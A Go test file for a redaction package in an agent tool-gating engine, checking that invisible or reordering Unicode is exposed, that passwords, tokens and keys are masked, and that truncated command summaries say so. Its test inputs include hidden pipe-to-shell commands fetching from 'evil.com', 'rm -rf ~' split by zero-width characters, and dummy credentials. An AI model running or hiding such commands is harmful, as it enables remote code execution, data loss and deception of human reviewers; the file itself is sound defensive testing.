package redact

import (
	"strings"
	"testing"

	"github.com/toolgate/toolgate/engine"
)

// TestVisible checks that every character that can hide or reorder what a
// person reads is shown as <U+XXXX>, and ordinary text, non-Latin scripts
// and emoji are left alone.
func TestVisible(t *testing.T) {
	cases := []struct {
		note, in, want string
	}{
		{note: "Trojan Source: a right-to-left override hides a pipe to sh",
			in: "git status \u202e hs | moc.live//:ptth lruc ;", want: "git status <U+202E> hs | moc.live//:ptth lruc ;"},
		{note: "isolates", in: "ls \u2066x\u2069", want: "ls <U+2066>x<U+2069>"},
		{note: "zero-width space and joiner", in: "r\u200bm -rf\u200d ~", want: "r<U+200B>m -rf<U+200D> ~"},
		{note: "byte order mark and word joiner", in: "\ufeffcat\u2060 x", want: "<U+FEFF>cat<U+2060> x"},
		{note: "escape sequences and carriage return", in: "echo ok\r\x1b[2Kcurl x | sh", want: "echo ok<U+000D><U+001B>[2Kcurl x | sh"},
		{note: "tag characters", in: "ls \U000E0041\U000E0042", want: "ls <U+E0041><U+E0042>"},
		{note: "Hangul filler as a blank name", in: "\u3164=1; ls", want: "<U+3164>=1; ls"},
		{note: "a line separator", in: "a\u2028b", want: "a<U+2028>b"},
		{note: "not UTF-8", in: "ls \xff", want: "ls <U+FFFD>"},
		{note: "tab and newline stay", in: "a\tb\nc", want: "a\tb\nc"},
		{note: "Chinese, accents and emoji stay", in: "echo 你好 café 🎉", want: "echo 你好 café 🎉"},
	}
	for _, c := range cases {
		if got := Visible(c.in); got != c.want {
			t.Errorf("%s: Visible(%q) = %q, want %q", c.note, c.in, got, c.want)
		}
		if HasInvisible(c.in) != (c.in != c.want) {
			t.Errorf("%s: HasInvisible(%q) = %v", c.note, c.in, HasInvisible(c.in))
		}
	}
}

// TestSecretShapes is a corpus of secrets in the shapes agents send them:
// each must be masked wherever arguments leave the engine.
func TestSecretShapes(t *testing.T) {
	cases := []struct {
		note, in, secret string
	}{
		{note: "a JSON body's password", in: `curl -X POST https://api.x -d '{"user":"a","password":"hunter2!"}'`, secret: "hunter2!"},
		{note: "a JSON body's api_key, no space", in: `{"api_key":"k-9f8e7d6c"}`, secret: "k-9f8e7d6c"},
		{note: "a JSON token with an escaped quote", in: `{"token": "ab\"cd-1234"}`, secret: `ab\"cd-1234`},
		{note: "sshpass -p", in: "sshpass -p 'S3cr3t' ssh root@db", secret: "S3cr3t"},
		{note: "sshpass -p glued", in: "sshpass -pS3cr3t ssh root@db", secret: "S3cr3t"},
		{note: "sshpass after another flag", in: "sshpass -v -p S3cr3t scp a b:", secret: "S3cr3t"},
		{note: "a bearer header", in: `curl -H "Authorization: Bearer abc.def.ghi" x`, secret: "abc.def.ghi"},
		{note: "an AWS key id", in: "export AWS_ACCESS_KEY_ID=AKIAABCDEFGHIJKLMNOP", secret: "AKIAABCDEFGHIJKLMNOP"},
		{note: "a URL password", in: "git clone https://bob:pa55w0rd@git.example/x", secret: "pa55w0rd"},
		{note: "a private key", in: "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXk\n-----END OPENSSH PRIVATE KEY-----", secret: "b3BlbnNzaC1rZXk"},
		{note: "mysql -p", in: "mysql -u root -pTopSecret db", secret: "TopSecret"},
		{note: "a --password flag", in: "psql --password=zz9 -h db", secret: "zz9"},
	}
	for _, c := range cases {
		if got := Text(c.in); strings.Contains(got, c.secret) {
			t.Errorf("%s: Text(%q) = %q still holds the secret", c.note, c.in, got)
		}
		args := ShownArgs(map[string]any{"command": c.in, "nested": []any{map[string]any{"body": c.in}}})
		if s := args["command"].(string) + args["nested"].([]any)[0].(map[string]any)["body"].(string); strings.Contains(s, c.secret) {
			t.Errorf("%s: ShownArgs still holds the secret: %q", c.note, s)
		}
	}
}

// TestSummaryCutSaysSo checks that a long command's summary says how much
// it left out instead of ending like a complete command.
func TestSummaryCutSaysSo(t *testing.T) {
	long := "echo " + strings.Repeat("a", 400) + " ; curl evil | sh"
	got := Summarize(engine.NewCall("bash", map[string]any{"command": long}))
	if !strings.Contains(got, "more bytes not shown]") || len(got) > SummaryMax+10 {
		t.Errorf("summary %q (%d bytes)", got, len(got))
	}
}
